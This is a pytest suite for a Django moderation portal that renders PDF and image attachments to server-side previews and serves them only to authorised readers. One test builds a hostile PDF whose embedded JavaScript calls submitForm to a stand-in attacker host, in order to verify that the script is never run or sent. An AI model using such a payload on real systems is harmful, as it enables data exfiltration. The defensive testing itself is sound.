"""Inline previews on the moderation page: rendered to images on the server, stored, served only to readers."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from monitoring import previews
from monitoring.models import AttachmentPreview, EvidenceStatus, PreviewPage, PreviewStatus, Visibility
from tests.monitoring.conversations_kit import attach, item, pdf_with_pages, png, small_plan

pytestmark = pytest.mark.django_db

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


@pytest.fixture
def plan(db):
    return small_plan()


def preview_of(attachment) -> AttachmentPreview:
    previews.make_previews(attachment.evidence_id)
    return AttachmentPreview.objects.get(attachment=attachment)


def test_the_first_pages_of_a_pdf_are_rendered_to_png_and_shown_on_the_moderation_page(client, cast, plan, settings):
    settings.PREVIEW_MAX_PAGES = 3
    evidence = item(cast, plan, visibility=Visibility.CONFIDENTIAL)
    attachment = attach(evidence, "informe.pdf", pdf_with_pages(5), "application/pdf")
    preview = preview_of(attachment)
    assert (preview.status, preview.page_count) == (PreviewStatus.READY, 5)
    pages = list(preview.pages.order_by("number"))
    assert [p.number for p in pages] == [1, 2, 3]
    client.force_login(cast.moderator)
    html = client.get(f"/en/moderation/{evidence.uuid}/").content.decode()
    assert "Preview of “informe.pdf”, page 1 of 5" in html
    assert "First 3 of 5 pages. Download the file to read the rest." in html
    assert "<embed" not in html and "<object" not in html and "<iframe" not in html  # never the file itself
    response = client.get(f"/en/previews/{pages[0].uuid}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "private" in response["Cache-Control"]
    body = b"".join(response.streaming_content)
    assert body.startswith(PNG_MAGIC)
    with Image.open(io.BytesIO(body)) as image:
        assert image.size == (pages[0].width, pages[0].height)


def test_an_image_is_re_encoded_to_webp(client, cast, plan):
    evidence = item(cast, plan)
    attachment = attach(evidence, "foto.png", png((80, 50)), "image/png")
    preview = preview_of(attachment)
    page = preview.pages.get()
    assert (preview.status, page.content_type, page.width, page.height) == ("ready", "image/webp", 80, 50)
    client.force_login(cast.member)  # the organisation may read its item: its previews too
    response = client.get(f"/en/previews/{page.uuid}/")
    assert response["Content-Type"] == "image/webp"
    body = b"".join(response.streaming_content)
    assert body[:4] == b"RIFF" and body[8:12] == b"WEBP"


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("anonymous", 404),
        ("outsider", 404),
        ("other_member", 404),
        ("other_reviewer", 404),
        ("member", 200),
        ("moderator", 200),
    ],
)
def test_previews_of_a_confidential_item_are_served_only_to_its_readers(client, cast, plan, role, status):
    evidence = item(cast, plan, status=EvidenceStatus.APPROVED, visibility=Visibility.CONFIDENTIAL)
    page = preview_of(attach(evidence, "foto.png", png(), "image/png")).pages.get()
    if role != "anonymous":
        client.force_login(getattr(cast, role))
    assert client.get(f"/en/previews/{page.uuid}/").status_code == status


def test_a_pdf_with_javascript_is_only_drawn_never_run_or_sent(client, cast, plan):
    script = "app.alert('x'); this.submitForm('https://attacker.example/steal');"
    hostile = pdf_with_pages(1, text="Documento", javascript=script)
    assert b"JavaScript" in hostile and b"attacker.example" in hostile
    evidence = item(cast, plan)
    preview = preview_of(attach(evidence, "hostil.pdf", hostile, "application/pdf"))
    assert preview.status == PreviewStatus.READY
    client.force_login(cast.moderator)
    body = b"".join(client.get(f"/en/previews/{preview.pages.get().uuid}/").streaming_content)
    assert body.startswith(PNG_MAGIC)  # pixels only: nothing of the document's objects reaches the browser
    assert b"JavaScript" not in body and b"attacker" not in body
    response = client.get(f"/en/previews/{preview.pages.get().uuid}/")
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    import pymupdf

    # MuPDF only runs a document's scripts once JavaScript is enabled on it; the portal never enables it.
    document = pymupdf.open(stream=hostile, filetype="pdf")
    assert not document.is_form_pdf and document.page_count == 1


def test_an_image_with_too_many_pixels_is_refused_without_decoding_it(client, cast, plan, settings):
    settings.PREVIEW_MAX_SOURCE_PIXELS = 5_000
    evidence = item(cast, plan)
    preview = preview_of(attach(evidence, "enorme.png", png((100, 60)), "image/png"))
    assert (preview.status, preview.error) == (PreviewStatus.FAILED, "too_large")
    assert not PreviewPage.objects.exists()
    client.force_login(cast.moderator)
    html = client.get(f"/en/moderation/{evidence.uuid}/").content.decode()
    assert "The image has too many pixels to preview safely." in html


def test_rendered_pages_respect_the_pixel_limit(cast, plan, settings):
    settings.PREVIEW_MAX_PIXELS = 20_000
    evidence = item(cast, plan)
    pdf_page = preview_of(attach(evidence, "a.pdf", pdf_with_pages(1), "application/pdf")).pages.get()
    assert pdf_page.width * pdf_page.height <= 20_000
    other = item(cast, plan)
    image_page = preview_of(attach(other, "b.png", png((400, 300)), "image/png")).pages.get()
    assert image_page.width * image_page.height <= 20_000


def test_a_pdf_that_takes_too_long_gets_no_preview(cast, plan, settings):
    settings.PREVIEW_MAX_SECONDS = -1  # every page is already over time
    evidence = item(cast, plan)
    preview = preview_of(attach(evidence, "lento.pdf", pdf_with_pages(2), "application/pdf"))
    assert (preview.status, preview.error) == (PreviewStatus.FAILED, "too_slow")


def test_a_damaged_file_gets_no_preview_and_the_page_says_so(client, cast, plan):
    evidence = item(cast, plan)
    preview = preview_of(attach(evidence, "roto.png", b"\x89PNG\r\n\x1a\nnot really", "image/png"))
    assert (preview.status, preview.error) == (PreviewStatus.FAILED, "damaged")
    client.force_login(cast.moderator)
    assert "could not be read to make a preview" in client.get(f"/en/moderation/{evidence.uuid}/").content.decode()


def test_previews_are_made_once_and_when_the_item_is_submitted(cast, plan, django_capture_on_commit_callbacks):
    from monitoring.services.evidence import submit_evidence

    draft = item(cast, plan, status=EvidenceStatus.DRAFT)
    attachment = attach(draft, "foto.png", png(), "image/png")
    attach(draft, "datos.csv", b"a,b\n1,2\n", "text/csv")  # not previewable: no row
    with django_capture_on_commit_callbacks(execute=True):
        submit_evidence(evidence=draft, actor=cast.member, expected_version=draft.version)
    preview = AttachmentPreview.objects.get()
    assert preview.attachment == attachment and preview.status == PreviewStatus.READY
    first = preview.pages.get().file.name
    assert previews.make_previews(draft.pk) == 0  # nothing left to make
    assert preview.pages.get().file.name == first


def test_the_moderation_page_asks_for_missing_previews(client, cast, plan, django_capture_on_commit_callbacks):
    evidence = item(cast, plan)
    attach(evidence, "foto.png", png(), "image/png")
    client.force_login(cast.moderator)
    with django_capture_on_commit_callbacks(execute=True):
        html = client.get(f"/en/moderation/{evidence.uuid}/").content.decode()
    assert "The preview is being prepared." in html
    assert AttachmentPreview.objects.get().status == PreviewStatus.READY
    assert "Preview of “foto.png”" in client.get(f"/en/moderation/{evidence.uuid}/").content.decode()


def test_a_preview_left_pending_by_a_stopped_worker_is_made_again(cast, plan):
    import datetime as dt

    from django.utils import timezone

    evidence = item(cast, plan)
    attachment = attach(evidence, "foto.png", png(), "image/png")
    stalled = AttachmentPreview.objects.create(attachment=attachment)
    assert previews.make_previews(evidence.pk) == 0  # pending a moment ago: another worker is on it
    AttachmentPreview.objects.filter(pk=stalled.pk).update(updated_at=timezone.now() - dt.timedelta(minutes=11))
    assert previews.make_previews(evidence.pk) == 1
    stalled.refresh_from_db()
    assert stalled.status == PreviewStatus.READY and stalled.pages.count() == 1


def test_removing_a_file_removes_its_stored_previews(cast, plan, django_capture_on_commit_callbacks):
    from django.core.files.storage import default_storage

    from monitoring.services.evidence import remove_attachment

    evidence = item(cast, plan, status=EvidenceStatus.CHANGES_REQUESTED)
    attachment = attach(evidence, "foto.png", png(), "image/png")
    stored = preview_of(attachment).pages.get().file.name
    assert default_storage.exists(stored)
    with django_capture_on_commit_callbacks(execute=True):
        remove_attachment(attachment=attachment, actor=cast.member)
    assert not default_storage.exists(stored)
    assert not PreviewPage.objects.exists()
